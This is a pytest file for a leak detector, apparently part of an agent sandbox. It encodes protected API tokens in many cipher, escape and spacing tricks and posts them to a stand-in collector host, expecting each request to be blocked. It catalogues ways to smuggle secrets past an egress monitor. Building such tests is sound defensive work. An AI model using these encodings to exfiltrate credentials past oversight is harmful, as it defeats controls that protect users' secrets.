"""The red-team sweep's second round: ciphers, codes and spacings of a known value.

Each spelling is found whatever the body's size (the recoded spellings are
automaton patterns, not decoders limited to 16 KiB), and ordinary data of the same
shape is not taken for a value.
"""

from __future__ import annotations

import base64
import binascii
import gzip
import json
import random
from collections.abc import Callable

import pytest

from agentcage.policy.leaks import LeakDetector, Protected, Unwrapper
from agentcage.policy.leaks.recodings import recoded
from agentcage.policy.leaks.textcodes import long_separated, uudecode
from agentcage.policy.leaks.unwrap import DEJUNKED
from agentcage.policy.types import Headers, Request, Verdict

from .conftest import ANTHROPIC, GITHUB

_LOWER = b"abcdefghijklmnopqrstuvwxyz"
_UPPER = _LOWER.upper()


def _caesar(shift: int) -> Callable[[bytes], bytes]:
    table = bytes.maketrans(
        _LOWER + _UPPER, _LOWER[shift:] + _LOWER[:shift] + _UPPER[shift:] + _UPPER[:shift]
    )
    return lambda v: v.translate(table)


def _base36(value: bytes) -> bytes:
    number, out = int.from_bytes(value, "big"), ""
    while number:
        number, digit = divmod(number, 36)
        out = "0123456789abcdefghijklmnopqrstuvwxyz"[digit] + out
    return out.upper().encode()


def _uuencode(value: bytes) -> bytes:
    return b"".join(binascii.b2a_uu(value[i : i + 45]) for i in range(0, len(value), 45))


def _swap(value: bytes) -> bytes:
    return bytes(value[i ^ 1] for i in range(len(value) - len(value) % 2)) + value[-1:] * (
        len(value) % 2
    )


SPELLINGS: dict[str, Callable[[bytes], bytes]] = {
    "decimal-list": lambda v: ", ".join(str(c) for c in v).encode(),
    "decimal-array": lambda v: json.dumps(list(v)).encode(),
    "hex-list": lambda v: " ".join(f"0x{c:02X}" for c in v).encode(),
    "octal-escapes": lambda v: b"".join(b"\\%o" % c for c in v),
    "octal-list": lambda v: " ".join(f"{c:03o}" for c in v).encode(),
    "octal-c": lambda v: ",".join(f"0{c:o}" for c in v).encode(),
    "bits": lambda v: " ".join(f"{c:08b}" for c in v).encode(),
    "percent-u": lambda v: b"".join(b"%%u%04X" % c for c in v),
    "rot47": lambda v: bytes(33 + (c - 33 + 47) % 94 if 33 <= c <= 126 else c for c in v),
    "atbash": lambda v: v.translate(bytes.maketrans(_LOWER + _UPPER, _LOWER[::-1] + _UPPER[::-1])),
    "caesar-1": _caesar(1),
    "caesar-25": _caesar(25),
    "swapped-pairs": _swap,
    "swapped-pairs-odd": lambda v: v[:1] + _swap(v[1:]),
    "reversed-base64": lambda v: base64.b64encode(b"key=" + v)[::-1],
    "reversed-hex": lambda v: v.hex().encode()[::-1],
    "base32hex": lambda v: base64.b32hexencode(b"id:" + v),
    "base36": _base36,
    "uuencode": lambda v: _uuencode(b"export TOKEN=" + v + b"\n"),
    "base85": lambda v: base64.b85encode(b"x" + v),
    "ascii85": lambda v: base64.a85encode(b"tok " + v, adobe=True),
}


def _detector() -> LeakDetector:
    return LeakDetector(
        [
            Protected("ANTHROPIC_API_KEY", ANTHROPIC, "injected", ("api.anthropic.com",)),
            Protected("GITHUB_TOKEN", GITHUB, "known"),
        ]
    )


def _post(body: bytes, headers: tuple[tuple[str, str], ...] = ()) -> Request:
    return Request("POST", "https", "collector.example.net", 443, "/drop", Headers(headers), body)


def _padded(data: bytes) -> bytes:
    """In a JSON body past the text decoders' 16 KiB."""
    notes = "the agent read a file and wrote a summary. " * 600
    return json.dumps({"notes": notes, "data": data.decode("latin-1")}).encode()


@pytest.mark.parametrize("value", [ANTHROPIC, GITHUB], ids=["anthropic", "github"])
@pytest.mark.parametrize("spell", list(SPELLINGS.values()), ids=list(SPELLINGS))
@pytest.mark.parametrize("place", [lambda d: d, _padded], ids=["alone", "in-26KiB"])
def test_a_recoded_value_is_found_in_a_body_of_any_size(
    value: bytes, spell: Callable[[bytes], bytes], place: Callable[[bytes], bytes]
) -> None:
    findings = _detector().check_request(_post(place(spell(value))))
    assert [f.verdict for f in findings] == [Verdict.BLOCK]


@pytest.mark.parametrize(
    "body",
    [
        json.dumps([random.Random(n).randint(0, 255) for n in range(4000)]).encode(),
        " ".join(f"{c:03o}" for c in b"an ordinary sentence, octal-coded " * 50).encode(),
        " ".join(f"{c:08b}" for c in b"a README in bits " * 40).encode(),
        _caesar(3)(b"Ordinary prose under a Caesar shift, as puzzles have it. " * 40),
        base64.b85encode(random.Random(1).randbytes(3000)),
        _uuencode(b"a shell archive of ordinary files\n" * 40),
        base64.b64encode(b"an ordinary payload of words " * 40)[::-1],
    ],
    ids=["byte-list", "octal-prose", "bits-prose", "caesar-prose", "b85", "uu", "reversed-b64"],
)
def test_the_same_shapes_without_a_value_pass(body: bytes) -> None:
    assert _detector().check_request(_post(body)) == []


def test_every_recoded_spelling_is_long_enough_to_mean_the_value() -> None:
    # A spelling shorter than the value would match ordinary data more often.
    for variant in recoded(GITHUB):
        assert len(variant.text) >= len(GITHUB) // 2, variant.technique


def test_a_value_in_three_character_headers_is_found_in_order() -> None:
    pieces = [GITHUB[i : i + 3].decode() for i in range(0, len(GITHUB), 3)]
    headers = tuple((f"x-part-{n:02d}", p) for n, p in enumerate(pieces))
    assert _detector().check_request(_post(b"", headers))[0].verdict is Verdict.BLOCK
    ordinary = (("accept", "*/*"), ("user-agent", "curl/8.5"), ("x-request-id", "abc123"))
    assert _detector().check_request(_post(b"", ordinary)) == []


def test_base85_of_gzip_is_unpacked() -> None:
    body = base64.b85encode(gzip.compress(b"export TOKEN=" + GITHUB + b"\n"))
    assert _detector().check_request(_post(body))[0].verdict is Verdict.BLOCK


def test_two_junk_characters_after_each_real_one() -> None:
    junk = b"qzjxkvwy"
    body = bytes(b for i, c in enumerate(GITHUB) for b in (c, junk[i % 8], junk[(i + 3) % 8]))
    assert _detector().check_request(_post(body))[0].verdict is Verdict.BLOCK


@pytest.mark.parametrize("separator", [b"<x>", b"##", b"-x-", b"ab"])
def test_a_long_separator_between_characters_is_read_out(separator: bytes) -> None:
    spaced = separator.join(bytes([c]) for c in GITHUB)
    assert GITHUB in long_separated(b"note: " + spaced + b" end")
    assert _detector().check_request(_post(spaced))[0].verdict is Verdict.BLOCK


@pytest.mark.parametrize(
    "text",
    [
        b"=" * 200,
        b"-" * 80 + b"\n" + b"| a | b | c |\n" * 3,
        b"    " * 60 + b"return x\n",
        b"the agent read a file and wrote a summary of it " * 20,
    ],
    ids=["rule", "table", "indentation", "prose"],
)
def test_long_separated_leaves_ordinary_text_alone(text: bytes) -> None:
    assert long_separated(text) == b""


def _views(data: bytes) -> bytes:
    return b"\n".join(v.data for v in Unwrapper().views(data))


@pytest.mark.parametrize(
    "spell",
    [
        lambda v: b"".join(b"\\%o" % c for c in v),  # C and shell octal escapes
        lambda v: json.dumps("".join(f"\\{c:03o}" for c in v)).encode(),  # carried in JSON
        lambda v: b"".join(b"%%u%04X" % c for c in v),  # JavaScript's escape()
        lambda v: " ".join(f"{c:08b}" for c in v).encode(),  # bits
    ],
    ids=["octal", "octal-in-json", "percent-u", "bits"],
)
def test_escapes_and_bits_are_decoded_so_formats_are_found_beneath(
    spell: Callable[[bytes], bytes],
) -> None:
    # Decoded, not only matched: a key's format is found without its value.
    assert GITHUB in _views(b"token: " + spell(GITHUB) + b"\n")


@pytest.mark.parametrize(
    "text",
    [
        b"C:\\temp\\new folder",  # no digits after the backslashes
        b"50% up, 20% down",
        b"id 10110 and 1 0 1 1",  # bits, but not bytes of eight
    ],
)
def test_ordinary_text_gives_no_escape_or_bits_view(text: bytes) -> None:
    # The junk guesses read every small region; they are not decodings.
    assert [v.layers for v in Unwrapper().views(text) if v.layers != (DEJUNKED,)] == [()]


def test_uuencoded_lines_are_decoded() -> None:
    body = b"begin 644 notes.txt\n" + _uuencode(b"export TOKEN=" + ANTHROPIC + b"\n") + b"`\nend\n"
    assert ANTHROPIC in uudecode(body)
    assert ANTHROPIC in _views(body)


@pytest.mark.parametrize(
    "text",
    [
        b"SELECT ID, NAME FROM USERS WHERE X = 1;\n" * 40,
        b"# " + b"=" * 60 + b"\nM" + b"-" * 60 + b"\n",  # a full line's length, no data
        b"HELLO WORLD\nOK\n",
    ],
    ids=["upper-case-sql", "rules", "short-lines"],
)
def test_upper_case_text_is_not_taken_for_uuencode(text: bytes) -> None:
    assert uudecode(text) == b""


def test_short_values_are_not_looked_for_under_ciphers() -> None:
    # `cheer` is `jolly` in rot7: a short word ciphered can spell another word.
    techniques = {v.technique for v in recoded(b"cheerful")}
    assert not any(t.startswith(("caesar", "atbash", "rot47", "swapped")) for t in techniques)
    assert "caesar7" in {v.technique for v in recoded(GITHUB)}
